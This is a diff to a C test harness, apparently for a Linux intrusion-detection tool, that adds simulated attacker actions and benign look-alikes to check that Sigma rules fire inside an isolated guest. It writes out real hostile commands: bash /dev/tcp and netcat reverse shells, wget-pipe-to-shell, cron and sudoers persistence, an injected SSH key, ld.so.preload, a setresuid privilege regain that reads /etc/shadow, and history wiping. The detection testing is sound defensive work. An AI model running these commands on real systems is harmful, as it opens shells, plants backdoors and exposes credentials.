@@ -11,17 +11,30 @@
  *
  * Every step is independent: a failing step is reported with its errno in
  * the JSON ("result") and the program carries on.
+ *
+ * After the per-hook steps, the program plays an attacker (JSON "attacks"):
+ * real actions that the default Sigma rules in rules/linux/ are meant to
+ * catch, each in its own child process so its records are easy to find, plus
+ * look-alike benign actions (JSON "benign") that must not alert. The guest
+ * has no network card, so 192.0.2.10 (TEST-NET-1) is added to lo and this
+ * program's listeners there stand in for the attacker's host. /bin/bash is
+ * /extra/bash-static when the harness provides it (-a /bin/bash-static):
+ * busybox sh has no /dev/tcp. Actions the guest cannot do are reported with
+ * a negative "result".
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <net/if.h>
 #include <netinet/in.h>
+#include <poll.h>
 #include <signal.h>
 #include <stdarg.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
@@ -289,13 +302,452 @@ static void step_memfd(void)
 	    (int)getpid(), MEMFD_NAME, rc, (int)pid, code);
 }
 
+/* ---- attacker actions ------------------------------------------------- */
+
+#define REMOTE_IP "192.0.2.10"
+#define PORT_DEV_TCP 4444
+#define PORT_NETCAT 4445
+#define PORT_HTTP 8080
+#define PORT_PROBE_STD 443
+#define UNPRIVILEGED_UID 1000
+#define DROPPER "/tmp/vigil-dropper"
+#define BEACON_ARG "--beacon"
+#define WAIT_CHILD_MS 30000
+#define WAIT_PEER_MS 30000
+
+/* Entries of the "attacks" / "benign" objects: a comma before all but the first. */
+static int group_first;
+
+static void group_begin(const char *name)
+{
+	out(",\"%s\":{", name);
+	group_first = 1;
+}
+
+static void entry_begin(const char *key)
+{
+	out("%s\"%s\":{", group_first ? "" : ",", key);
+	group_first = 0;
+}
+
+static char *const attack_env[] = { "PATH=/bin:/sbin", "HOME=/root", "TERM=dumb", NULL };
+
+/* Waits up to ms for a child; then kills it. Exit status as reap(). */
+static int reap_within(pid_t pid, int ms)
+{
+	int status = 0;
+
+	for (int waited = 0; waited < ms; waited += 10) {
+		pid_t got = waitpid(pid, &status, WNOHANG);
+
+		if (got == pid) {
+			if (WIFEXITED(status))
+				return WEXITSTATUS(status);
+			return WIFSIGNALED(status) ? 128 + WTERMSIG(status) : -1;
+		}
+		if (got < 0)
+			return -errno;
+		usleep(10000);
+	}
+	kill(pid, SIGKILL);
+	reap(pid);
+	return -ETIMEDOUT;
+}
+
+/* fork + execve(path, argv) with stdout/stderr to /dev/null; returns the pid. */
+static pid_t spawn(const char *path, char *const argv[])
+{
+	pid_t pid = fork();
+
+	if (pid == 0) {
+		int null = open("/dev/null", O_RDWR);
+
+		if (null >= 0) {
+			dup2(null, STDIN_FILENO);
+			dup2(null, STDOUT_FILENO);
+			dup2(null, STDERR_FILENO);
+		}
+		execve(path, argv, attack_env);
+		_exit(127);
+	}
+	return pid;
+}
+
+static void out_argv(char *const argv[])
+{
+	out("\"argv\":[");
+	for (int i = 0; argv[i]; i++) {
+		out("%s\"", i ? "," : "");
+		for (const char *c = argv[i]; *c; c++) {
+			if (*c == '"' || *c == '\\')
+				out("\\%c", *c);
+			else
+				out("%c", *c);
+		}
+		out("\"");
+	}
+	out("]");
+}
+
+/*
+ * Runs argv as a command: {"pid":..,"executable":..,"argv":[..],"exitCode":..};
+ * for a script, "interpreter" names its #! line (the kernel then reports
+ * argv as interpreter, script path, arguments).
+ */
+static void run_script(const char *key, const char *path, char *const argv[],
+		       const char *interpreter)
+{
+	pid_t pid = spawn(path, argv);
+	int code = pid < 0 ? -errno : reap_within(pid, WAIT_CHILD_MS);
+
+	entry_begin(key);
+	out("\"pid\":%d,\"executable\":\"%s\",", (int)pid, path);
+	out_argv(argv);
+	if (interpreter)
+		out(",\"interpreter\":\"%s\"", interpreter);
+	out(",\"exitCode\":%d}", code);
+}
+
+static void run_command(const char *key, const char *path, char *const argv[])
+{
+	run_script(key, path, argv, NULL);
+}
+
+static int listen_tcp(const char *ip, int port)
+{
+	struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons(port) };
+	int one = 1, fd = socket(AF_INET, SOCK_STREAM, 0);
+
+	if (fd < 0)
+		return -errno;
+	inet_pton(AF_INET, ip, &addr.sin_addr);
+	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
+	if (bind(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0 || listen(fd, 4) < 0) {
+		int rc = -errno;
+
+		close(fd);
+		return rc;
+	}
+	return fd;
+}
+
+/* Reads until `until` is seen, EOF or the deadline; returns bytes read. */
+static int read_until(int fd, const char *until, int ms)
+{
+	char buf[4096];
+	size_t have = 0;
+	struct pollfd p = { .fd = fd, .events = POLLIN };
+
+	while (have < sizeof(buf) - 1 && poll(&p, 1, ms) > 0) {
+		ssize_t n = read(fd, buf + have, sizeof(buf) - 1 - have);
+
+		if (n <= 0)
+			break;
+		have += (size_t)n;
+		buf[have] = 0;
+		if (until && strstr(buf, until))
+			break;
+	}
+	return (int)have;
+}
+
+/*
+ * The attacker's side of one connection: accepts on lfd, optionally reads a
+ * request (up to a blank line), sends `reply`, then reads what the victim
+ * sends until it hangs up. Returns 1 when a peer connected, else -errno.
+ */
+static int serve_one(int lfd, int read_request, const char *reply)
+{
+	struct pollfd p = { .fd = lfd, .events = POLLIN };
+	int cfd;
+
+	if (lfd < 0)
+		return lfd;
+	if (poll(&p, 1, WAIT_PEER_MS) <= 0)
+		return -ETIMEDOUT;
+	cfd = accept(lfd, NULL, NULL);
+	if (cfd < 0)
+		return -errno;
+	if (read_request)
+		read_until(cfd, "\r\n\r\n", WAIT_PEER_MS);
+	if (reply && write(cfd, reply, strlen(reply)) < 0) {
+		close(cfd);
+		return -errno;
+	}
+	shutdown(cfd, SHUT_WR);
+	read_until(cfd, NULL, 5000);
+	close(cfd);
+	return 1;
+}
+
+/* A shell or tool connecting to a listener of this program on ip:port. */
+static void connect_back(const char *key, const char *path, char *const argv[],
+			 const char *ip, int port, int read_request, const char *reply)
+{
+	int lfd = listen_tcp(ip, port);
+	pid_t pid = lfd < 0 ? -1 : spawn(path, argv);
+	int served = pid < 0 ? (lfd < 0 ? lfd : -errno) : serve_one(lfd, read_request, reply);
+	int code = pid < 0 ? -1 : reap_within(pid, WAIT_CHILD_MS);
+
+	if (lfd >= 0)
+		close(lfd);
+	entry_begin(key);
+	out("\"pid\":%d,\"executable\":\"%s\",", (int)pid, path);
+	out_argv(argv);
+	out(",\"remoteIp\":\"%s\",\"port\":%d,\"connected\":%d,\"exitCode\":%d}",
+	    ip, port, served, code);
+}
+
+static int write_file(const char *path, const char *text, int flags, mode_t mode)
+{
+	int fd = open(path, O_WRONLY | flags, mode);
+	int rc = 0;
+
+	if (fd < 0)
+		return -errno;
+	if (write(fd, text, strlen(text)) < 0)
+		rc = -errno;
+	close(fd);
+	return rc;
+}
+
+static int copy_file(const char *from, const char *to, mode_t mode)
+{
+	char buf[65536];
+	ssize_t got;
+	int rc = 0, src = open(from, O_RDONLY), dst;
+
+	if (src < 0)
+		return -errno;
+	dst = open(to, O_WRONLY | O_CREAT | O_TRUNC, mode);
+	if (dst < 0) {
+		rc = -errno;
+		close(src);
+		return rc;
+	}
+	while ((got = read(src, buf, sizeof(buf))) > 0)
+		if (write(dst, buf, (size_t)got) != got) {
+			rc = -EIO;
+			break;
+		}
+	close(src);
+	close(dst);
+	return rc;
+}
+
+/* REMOTE_IP/32 on lo (SIOCSIFADDR on the alias lo:1). */
+static int add_remote_address(void)
+{
+	struct ifreq ifr;
+	struct sockaddr_in *sin = (struct sockaddr_in *)&ifr.ifr_addr;
+	int rc = 0, fd = socket(AF_INET, SOCK_DGRAM, 0);
+
+	if (fd < 0)
+		return -errno;
+	memset(&ifr, 0, sizeof(ifr));
+	strcpy(ifr.ifr_name, "lo:1");
+	sin->sin_family = AF_INET;
+	inet_pton(AF_INET, REMOTE_IP, &sin->sin_addr);
+	if (ioctl(fd, SIOCSIFADDR, &ifr) < 0)
+		rc = -errno;
+	inet_pton(AF_INET, "255.255.255.255", &sin->sin_addr);
+	if (rc == 0 && ioctl(fd, SIOCSIFNETMASK, &ifr) < 0)
+		rc = -errno;
+	close(fd);
+	return rc;
+}
+
+/*
+ * useradd for the guest, which has no shadow-utils (and Debian's busybox no
+ * adduser): adds the account named by the last argument to /etc/passwd,
+ * /etc/shadow and /etc/group with the next free uid from 1001.
+ */
+static const char useradd_script[] =
+	"#!/bin/sh\n"
+	"for name; do :; done\n"
+	"uid=1001\n"
+	"while grep -q \"^[^:]*:[^:]*:$uid:\" /etc/passwd; do uid=$((uid + 1)); done\n"
+	"echo \"$name:x:$uid:$uid::/home/$name:/bin/sh\" >>/etc/passwd\n"
+	"echo \"$name:!:19700:0:99999:7:::\" >>/etc/shadow\n"
+	"echo \"$name:x:$uid:\" >>/etc/group\n";
+
+/*
+ * What a Debian host has and the initramfs lacks: account files (with a
+ * shadow file to steal), the cron/sudoers drop-in directories, root's .ssh,
+ * /bin/bash, a useradd. Done in a child so its file records are not the
+ * program's own.
+ */
+static void setup_victim_host(void)
+{
+	int address = add_remote_address();
+	int bash = -ENOENT;
+	pid_t pid = fork();
+
+	if (pid == 0) {
+		mkdir("/etc/cron.d", 0755);
+		mkdir("/etc/sudoers.d", 0750);
+		mkdir("/root/.ssh", 0700);
+		write_file("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n", O_CREAT | O_EXCL, 0644);
+		write_file("/etc/group", "root:x:0:\n", O_CREAT | O_EXCL, 0644);
+		write_file("/etc/shadow", "root:$6$vigil$not.a.real.hash:19700:0:99999:7:::\n",
+			   O_CREAT | O_EXCL, 0640);
+		mkdir("/usr", 0755);
+		mkdir("/usr/sbin", 0755);
+		write_file("/usr/sbin/useradd", useradd_script, O_CREAT | O_TRUNC, 0755);
+		_exit(0);
+	}
+	reap_within(pid, WAIT_CHILD_MS);
+	if (access("/extra/bash-static", X_OK) == 0)
+		bash = copy_file("/extra/bash-static", "/bin/bash", 0755);
+	else if (access("/bin/bash", X_OK) == 0)
+		bash = 0;
+	out(",\"setup\":{\"pid\":%d,\"remoteIp\":\"%s\",\"addressResult\":%d,"
+	    "\"bashResult\":%d}", (int)pid, REMOTE_IP, address, bash);
+}
+
+/*
+ * A process running as an unprivileged user (real, effective uid 1000) whose
+ * saved uid is still 0 - the state a half-dropped daemon or a cap_setuid
+ * binary leaves - switches its effective uid back to 0, makes itself root
+ * all through, and dumps /etc/shadow with cat.
+ */
+static void attack_privesc_shadow(void)
+{
+	int pipefd[2], rc[3] = { -EIO, -EIO, -EIO };
+	pid_t pid;
+
+	if (pipe(pipefd) < 0)
+		return;
+	pid = fork();
+	if (pid == 0) {
+		char *argv[] = { "cat", "/etc/shadow", NULL };
+		int null = open("/dev/null", O_WRONLY);
+
+		rc[0] = err_result(setresuid(UNPRIVILEGED_UID, UNPRIVILEGED_UID, 0));
+		rc[1] = err_result(setresuid(-1, 0, -1));
+		rc[2] = err_result(setresuid(0, 0, 0));
+		if (write(pipefd[1], rc, sizeof(rc)) < 0)
+			_exit(126);
+		close(pipefd[1]);
+		if (null >= 0)
+			dup2(null, STDOUT_FILENO);
+		execve("/bin/cat", argv, attack_env);
+		_exit(127);
+	}
+	close(pipefd[1]);
+	if (read(pipefd[0], rc, sizeof(rc)) != sizeof(rc))
+		rc[0] = rc[1] = rc[2] = -EIO;
+	close(pipefd[0]);
+	int code = reap_within(pid, WAIT_CHILD_MS);
+
+	entry_begin("privesc");
+	out("\"pid\":%d,\"uid\":%d,\"dropResult\":%d,\"regainResult\":%d,"
+	    "\"rootResult\":%d,\"executable\":\"/bin/cat\","
+	    "\"argv\":[\"cat\",\"/etc/shadow\"],\"exitCode\":%d}",
+	    (int)pid, UNPRIVILEGED_UID, rc[0], rc[1], rc[2], code);
+}
+
+/* A dropper copied into /tmp and run from there (this program, as a no-op beacon). */
+static void attack_exec_from_tmp(void)
+{
+	char *argv[] = { DROPPER, BEACON_ARG, NULL };
+	int rc = copy_file("/proc/self/exe", DROPPER, 0755);
+
+	if (rc < 0) {
+		entry_begin("tempExec");
+		out("\"pid\":-1,\"result\":%d}", rc);
+		return;
+	}
+	run_command("tempExec", DROPPER, argv);
+}
+
+/* /etc/ld.so.preload written by an implant (no shell involved). */
+static void attack_ld_preload(void)
+{
+	pid_t pid = fork();
+
+	if (pid == 0)
+		_exit(write_file("/etc/ld.so.preload", "/tmp/vigil-preload.so\n",
+				 O_CREAT | O_APPEND, 0644) < 0 ? 1 : 0);
+	int code = reap_within(pid, WAIT_CHILD_MS);
+
+	entry_begin("ldPreload");
+	out("\"pid\":%d,\"path\":\"/etc/ld.so.preload\",\"exitCode\":%d}",
+	    (int)pid, code);
+}
+
+static void step_attacks(void)
+{
+	char *cron[] = { "sh", "-c",
+		"echo '* * * * * root " DROPPER " " BEACON_ARG "' > /etc/cron.d/vigil-job", NULL };
+	char *sudoers[] = { "sh", "-c",
+		"echo 'vigil ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/vigil", NULL };
+	char *keys[] = { "sh", "-c",
+		"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFZpZ2lsVGVzdEtleQ attacker@vigil' "
+		">> /root/.ssh/authorized_keys", NULL };
+	char *dev_tcp[] = { "bash", "-c",
+		"bash -i >& /dev/tcp/" REMOTE_IP "/4444 0>&1", NULL };
+	char *netcat[] = { "nc", REMOTE_IP, "4445", "-e", "/bin/sh", NULL };
+	char *download[] = { "sh", "-c",
+		"wget -q -O - http://" REMOTE_IP ":8080/install.sh | sh", NULL };
+	char *insmod[] = { "insmod", "/vigil.ko", NULL };
+	char *useradd[] = { "useradd", "-M", "-s", "/bin/sh", "vigil-backdoor", NULL };
+	char *rm_history[] = { "rm", "-f", "/root/.bash_history", NULL };
+	char *unset_history[] = { "sh", "-c", "unset HISTFILE; export HISTSIZE=0", NULL };
+	static const char http_reply[] =
+		"HTTP/1.0 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: 23\r\n\r\n"
+		"echo vigil-downloaded\n\n";
+
+	group_begin("attacks");
+	attack_privesc_shadow();
+	attack_exec_from_tmp();
+	run_command("cron", "/bin/sh", cron);
+	run_command("sudoers", "/bin/sh", sudoers);
+	attack_ld_preload();
+	run_command("authorizedKeys", "/bin/sh", keys);
+	connect_back("devTcp", "/bin/bash", dev_tcp, REMOTE_IP, PORT_DEV_TCP, 0, "exit\n");
+	connect_back("netcat", "/bin/nc", netcat, REMOTE_IP, PORT_NETCAT, 0, "exit\n");
+	connect_back("download", "/bin/sh", download, REMOTE_IP, PORT_HTTP, 1, http_reply);
+	run_command("moduleLoad", "/bin/insmod", insmod);
+	run_script("accountCreation", "/usr/sbin/useradd", useradd, "/bin/sh");
+	run_command("historyDelete", "/bin/rm", rm_history);
+	run_command("historyDisable", "/bin/sh", unset_history);
+	out("}");
+}
+
+/*
+ * Look-alikes of the attacks that the rules deliberately leave alone: reading
+ * /etc/passwd, writing an unwatched-by-rules file under /etc, and /dev/tcp port
+ * probes that only write (to a web port outside, and to loopback).
+ */
+static void step_benign(void)
+{
+	char *passwd[] = { "cat", "/etc/passwd", NULL };
+	char *motd[] = { "sh", "-c", "echo 'Welcome' > /etc/motd", NULL };
+	char *probe_std[] = { "bash", "-c",
+		"echo probe > /dev/tcp/" REMOTE_IP "/443", NULL };
+	char *probe_lo[] = { "bash", "-c", "echo probe > /dev/tcp/127.0.0.1/4446", NULL };
+
+	group_begin("benign");
+	run_command("catPasswd", "/bin/cat", passwd);
+	run_command("motd", "/bin/sh", motd);
+	connect_back("probeStandardPort", "/bin/bash", probe_std, REMOTE_IP, PORT_PROBE_STD, 0, NULL);
+	connect_back("probeLoopback", "/bin/bash", probe_lo, "127.0.0.1", 4446, 0, NULL);
+	out("}");
+}
+
 int main(int argc, char **argv)
 {
 	const char *dir = argc > 1 ? argv[1] : "/tmp/watched";
 
-	out("{\"pid\":%d,\"ppid\":%d,\"uid\":%u,\"euid\":%u,\"gid\":%u",
+	/* Run from /tmp as the dropper: a beacon that does nothing. */
+	if (argc > 1 && strcmp(argv[1], BEACON_ARG) == 0)
+		return 0;
+
+	out("{\"pid\":%d,\"ppid\":%d,\"uid\":%u,\"euid\":%u,\"gid\":%u,",
 	    (int)getpid(), (int)getppid(), (unsigned)getuid(),
 	    (unsigned)geteuid(), (unsigned)getgid());
+	out_argv(argv);
 	step_exec();
 	step_exit();
 	step_connect();
@@ -304,6 +756,9 @@ int main(int argc, char **argv)
 	step_files(dir);
 	step_dns();
 	step_memfd();
+	setup_victim_host();
+	step_attacks();
+	step_benign();
 	out("}\n");
 	if (write(STDOUT_FILENO, json, json_len) < 0)
 		return 1;
